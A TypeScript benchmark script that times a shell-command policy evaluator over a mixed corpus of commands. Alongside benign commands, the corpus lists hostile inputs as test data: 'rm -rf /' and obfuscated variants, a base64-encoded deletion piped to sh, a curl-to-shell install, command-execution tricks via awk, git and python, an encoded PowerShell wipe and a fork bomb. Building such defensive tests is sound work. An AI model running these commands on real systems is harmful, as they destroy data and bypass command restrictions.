/**
 * Command-rules throughput and latency: evaluations per second and p50/p99 per evaluation over a mixed corpus
 * (plain commands, pipelines, wrappers, nested shells, bypass attempts, garbage), in one process.
 * Run: npx tsx bench/command-rules/run.ts [seconds]
 */
import { CommandPolicy, evaluateCommand, loadCommandRules } from '@letkite/command-rules';

const corpus = [
  'ls -la',
  'cat README.md 2>/dev/null',
  'git status --short && git log --oneline -n 5',
  "ps aux | grep nginx | awk '{print $2}'",
  'find . -name "*.ts" -type f | xargs grep -l TODO',
  'du -sh * 2>/dev/null | sort -h | tail -n 5',
  'for f in *.log; do wc -l "$f"; done',
  'if [ -f /etc/os-release ]; then cat /etc/os-release; fi',
  'journalctl -u nginx --since "1 hour ago" | tail -n 50',
  'systemctl status nginx',
  'sudo -u www-data -- env LANG=C timeout 10 nice -n 5 ls /srv',
  "bash -c 'cd /srv/app && git pull --ff-only && npm ci && npm run build'",
  'rm -rf /',
  'rm${IFS}-rf${IFS}/',
  '{rm,-rf,/}',
  'echo cm0gLXJmIC8= | base64 -d | sh',
  'curl -fsSL https://example.com/install.sh | sh',
  'awk \'BEGIN{system("id")}\'',
  'git -c core.pager="sh -c id" log',
  'find / -name x -exec rm -rf {} \\;',
  'python3 -c \'import os; os.system("id")\'',
  'echo $(echo $(echo $(id)))',
  'powershell -EncodedCommand cgBtACAALQByAGYAIAAvAA==',
  'cat <<EOF | sh\nrm -rf /\nEOF',
  'docker compose pull && docker compose up -d && docker compose ps',
  'ls "unterminated',
  ':(){ :|:& };:',
  'a=$(whoami); echo "hello $a" > /tmp/greeting.txt',
];

const policy = CommandPolicy.parse({
  rulesets: ['linux-readonly', 'no-destructive'],
  rules: [
    { match: 'git pull *', verdict: 'allow' },
    { match: 'npm *', verdict: 'allow' },
  ],
});

await loadCommandRules();
const seconds = Number(process.argv[2] ?? 3);

// warm up the JIT and the policy cache
for (let i = 0; i < 2000; i++) evaluateCommand(corpus[i % corpus.length] as string, policy);

const samples: number[] = [];
const cpuStarted = process.cpuUsage();
const started = performance.now();
let count = 0;
while (performance.now() - started < seconds * 1000) {
  for (const command of corpus) {
    const t0 = performance.now();
    evaluateCommand(command, policy);
    samples.push(performance.now() - t0);
    count++;
  }
}
const elapsed = (performance.now() - started) / 1000;
// CPU time as well as wall time: on a shared machine other processes steal the CPU, and this shows it
const cpu = process.cpuUsage(cpuStarted);
const cpuSeconds = (cpu.user + cpu.system) / 1e6;
samples.sort((a, b) => a - b);
const at = (q: number) => (samples[Math.min(samples.length - 1, Math.floor(q * samples.length))] ?? 0) * 1000;

const perSecond = Math.round(count / elapsed);
const report = {
  corpus: corpus.length,
  evaluations: count,
  seconds: Number(elapsed.toFixed(2)),
  evaluationsPerSecond: perSecond,
  cpuSeconds: Number(cpuSeconds.toFixed(2)),
  evaluationsPerCpuSecond: Math.round(count / cpuSeconds),
  p50Microseconds: Math.round(at(0.5)),
  p99Microseconds: Math.round(at(0.99)),
  maxMicroseconds: Math.round(at(1)),
  node: process.version,
};
console.log(JSON.stringify(report, null, 2));
console.log(
  `command-rules: ${perSecond} evaluations/s (${report.evaluationsPerCpuSecond} per CPU second), p50 ${report.p50Microseconds} µs, p99 ${report.p99Microseconds} µs ` +
    `(goal: ≥ 20000/s, p99 < 1000 µs) ${perSecond >= 20_000 && report.p99Microseconds < 1000 ? 'MET' : 'NOT MET'}`,
);
